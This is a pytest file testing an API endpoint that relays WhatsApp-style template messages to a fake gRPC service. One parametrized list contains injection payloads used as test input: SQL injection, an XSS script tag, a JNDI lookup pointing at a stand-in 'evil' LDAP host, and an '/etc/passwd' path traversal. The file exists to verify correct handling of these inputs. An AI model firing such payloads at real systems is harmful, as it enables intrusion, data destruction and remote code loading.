"""POST /api/v1/meta-templates/send/ on the happy path: the documented 200 and the gRPC request."""

from __future__ import annotations

import pytest
from google.protobuf.timestamp_pb2 import Timestamp

from mindo_grpc._pb.mindo.v1 import mindo_pb2

from .conftest import Post
from .fake_mindo import GOOD_KEY, FakeMindo, sent_reply


async def test_a_sent_message_answers_the_documented_body_in_order(
    post: Post, valid_body: dict[str, object]
) -> None:
    status, _headers, body = await post(valid_body)

    assert status == 200
    assert list(body) == [
        "success",
        "message_id",
        "template_name",
        "recipient_phone",
        "status",
        "sent_at",
    ]
    assert body == {
        "success": True,
        "message_id": "wamid.HBgNNTQ5MTEyMzQ1Njc4FQIAERgSQjVBN0YzRjQ2NzFCNDVBNQA=",
        "template_name": "welcome_message",
        "recipient_phone": "+5491112345678",
        "status": "sent",
        "sent_at": "2025-11-16T21:30:00Z",
    }


async def test_the_service_receives_the_body_and_the_key(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    await post(valid_body)

    call = fake.only("SendMessage")
    assert call.metadata["x-api-key"] == GOOD_KEY
    assert call.request == mindo_pb2.SendMessageRequest(
        phone_number_id="813497231850626",
        template_name="welcome_message",
        language="es",
        recipient_phone="+5491112345678",
        variables={"name": "Juan Perez", "code": "ABC123"},
        button_variables={"button_0": "ABC-123"},
    )
    assert fake.methods() == ["SendMessage"], "a valid body needs no separate key check"


async def test_language_defaults_to_es_and_absent_maps_stay_empty(
    post: Post, fake: FakeMindo
) -> None:
    minimal = {
        "phone_number_id": "813497231850626",
        "template_name": "welcome_message",
        "recipient_phone": "+5491112345678",
    }
    status, _headers, _body = await post(minimal)

    assert status == 200
    request = fake.only("SendMessage").request
    assert isinstance(request, mindo_pb2.SendMessageRequest)
    assert request.HasField("language")
    assert request.language == "es"
    assert dict(request.variables) == {}
    assert dict(request.button_variables) == {}


async def test_numbers_are_sent_as_text_like_drf(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    valid_body |= {
        "phone_number_id": 813497231850626,
        "variables": {"1": 42, "2": 1.5, "3": -0.0, "4": 12345678901234567890},
    }
    status, _headers, _body = await post(valid_body)

    assert status == 200
    request = fake.only("SendMessage").request
    assert isinstance(request, mindo_pb2.SendMessageRequest)
    assert request.phone_number_id == "813497231850626"
    assert dict(request.variables) == {
        "1": "42",
        "2": "1.5",
        "3": "-0.0",
        "4": "12345678901234567890",
    }


async def test_top_level_strings_are_trimmed_but_variables_pass_through_exactly(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    valid_body |= {
        "template_name": "  welcome_message\n",
        "variables": {"name": "  Juan  ", "empty": ""},
    }
    await post(valid_body)

    request = fake.only("SendMessage").request
    assert isinstance(request, mindo_pb2.SendMessageRequest)
    assert request.template_name == "welcome_message"
    assert dict(request.variables) == {"name": "  Juan  ", "empty": ""}


async def test_unknown_top_level_fields_are_ignored(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    valid_body |= {"priority": "high", "id": 99, "extra": {"nested": [1, 2]}}
    status, _headers, _body = await post(valid_body)

    assert status == 200
    assert fake.methods() == ["SendMessage"]


INJECTION_LOOKING = [
    "'; DROP TABLE messages; --",
    "<script>alert('x')</script>",
    "{{7*7}} ${jndi:ldap://evil/a} %s%n",
    "../../../etc/passwd",
    'Robert"); DELETE FROM keys WHERE ("1"="1',
    "line one\nline two\ttabbed \\ backslash",
]


@pytest.mark.parametrize("value", INJECTION_LOOKING)
async def test_injection_looking_values_reach_the_service_untouched(
    post: Post, fake: FakeMindo, valid_body: dict[str, object], value: str
) -> None:
    valid_body |= {"variables": {"name": value}, "button_variables": {"button_0": value}}
    status, _headers, _body = await post(valid_body)

    assert status == 200
    request = fake.only("SendMessage").request
    assert isinstance(request, mindo_pb2.SendMessageRequest)
    assert request.variables["name"] == value
    assert request.button_variables["button_0"] == value


async def test_emoji_and_other_scripts_are_fine(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    text = "Hola 👋🏽 Jüan — 日本語 عربى 🇦🇷"
    valid_body |= {"variables": {"name": text, "ñandú 🐦": "sí"}}
    status, _headers, _body = await post(valid_body)

    assert status == 200
    request = fake.only("SendMessage").request
    assert isinstance(request, mindo_pb2.SendMessageRequest)
    assert dict(request.variables) == {"name": text, "ñandú 🐦": "sí"}


async def test_the_path_without_its_trailing_slash_is_served_too(
    post: Post, valid_body: dict[str, object]
) -> None:
    status, _headers, body = await post(valid_body, path="/api/v1/meta-templates/send")

    assert status == 200
    assert body["status"] == "sent"


async def test_sent_at_keeps_microseconds_when_the_service_has_them(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    fake.send_reply = sent_reply(sent_at=Timestamp(seconds=1763328600, nanos=123456789))
    _status, _headers, body = await post(valid_body)

    assert body["sent_at"] == "2025-11-16T21:30:00.123456Z"


async def test_the_reply_fields_come_from_the_service_not_the_request(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    fake.send_reply = sent_reply(recipient_phone="+5491100000000", message_id="wamid.OTHER")
    valid_body["recipient_phone"] = "+54 9 11 0000-0000"
    _status, _headers, body = await post(valid_body)

    assert body["recipient_phone"] == "+5491100000000"
    assert body["message_id"] == "wamid.OTHER"


async def test_the_idempotency_key_header_reaches_the_service(
    post: Post, fake: FakeMindo, valid_body: dict[str, object]
) -> None:
    await post(valid_body, headers={"Idempotency-Key": "order-1234"})

    call = fake.only("SendMessage")
    assert call.request.HasField("idempotency_key")
    assert call.request.idempotency_key == "order-1234"


@pytest.mark.parametrize("key", ["", "clave-ñ", "x" * 256])
async def test_an_idempotency_key_the_service_cannot_take_is_a_400_before_any_call(
    post: Post, fake: FakeMindo, valid_body: dict[str, object], key: str
) -> None:
    status, _headers, body = await post(valid_body, headers={"Idempotency-Key": key})

    assert status == 400
    assert body["code"] == "invalid_request"
    assert list(body["fields"]) == ["Idempotency-Key"]
    assert "SendMessage" not in fake.methods()
